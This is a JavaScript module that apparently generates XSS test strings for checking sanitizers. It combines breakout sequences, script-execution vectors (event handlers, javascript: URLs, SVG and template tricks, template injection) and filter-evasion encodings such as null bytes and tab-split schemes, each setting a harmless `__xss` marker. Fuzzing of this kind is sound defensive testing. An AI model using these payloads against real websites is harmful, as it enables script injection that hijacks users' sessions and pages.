// Strings that run where they are taken for markup, an address, a style or a piece of script: ways out of what they stand in, times
// ways to run, times ways to write it. Each would set `__xss`.

const OUT_OF = ["", '"', "'", "`", '">', "'>", "-->", "]]>", "</textarea>", "</title>", "</style>", "</script>", "</svg>", "\\\"", "${", "{{", "*/", "\n\n", "\u2028", "&quot;>"];

const RUNS = [
  "<script>__xss=1</script>", "<img src=x onerror=__xss=1>", "<svg onload=__xss=1>", "<svg><script>__xss=1</script></svg>", "<svg><animate onbegin=__xss=1 attributeName=x dur=1s>",
  "<iframe srcdoc='<script>parent.__xss=1</script>'></iframe>", "<iframe src=javascript:parent.__xss=1></iframe>", "<a href=javascript:__xss=1 autofocus>x</a>",
  "<math><a xlink:href=javascript:__xss=1>x</a></math>", "<details open ontoggle=__xss=1>", "<input autofocus onfocus=__xss=1>", "<video><source onerror=__xss=1></video>", "<audio src=x onerror=__xss=1>",
  "<object data=javascript:__xss=1></object>", "<embed src=javascript:__xss=1>", "<form><button formaction=javascript:__xss=1 autofocus>x</button></form>", "<meta http-equiv=refresh content='0;url=javascript:__xss=1'>",
  "<base href=javascript:__xss=1//>", "<link rel=stylesheet href=javascript:__xss=1>", "<style>@import 'javascript:__xss=1';</style>", "<div style=background:url(javascript:__xss=1)>", "<marquee onstart=__xss=1>x</marquee>",
  "<body onload=__xss=1>", "<template shadowrootmode=open><img src=x onerror=__xss=1></template>", "<madeleine-survey src=javascript:__xss=1></madeleine-survey>",
  " onmouseover=__xss=1 onfocus=__xss=1 autofocus x=", "javascript:__xss=1", "data:text/html,<script>__xss=1</script>", "${__xss=1}", "{{constructor.constructor('__xss=1')()}}", ";__xss=1;//", "__proto__", "constructor",
];

const WRITTEN = [
  (text) => text,
  (text) => text.toUpperCase().replaceAll("__XSS", "__xss"),
  (text) => text.replaceAll("<", "<\0").replaceAll("script", "scr\0ipt"),
  (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (text) => text.replaceAll(" ", "/").replaceAll("javascript:", "java\tscript:"),
];

/** Every way out with every way to run, written in a way by turns; and each way to run in every writing. */
export const STRINGS = [
  ...new Set([
    ...OUT_OF.flatMap((out, at) => RUNS.map((run, turn) => WRITTEN[(at + turn) % WRITTEN.length](out + run))),
    ...RUNS.flatMap((run) => WRITTEN.map((write) => write(run))),
  ]),
];
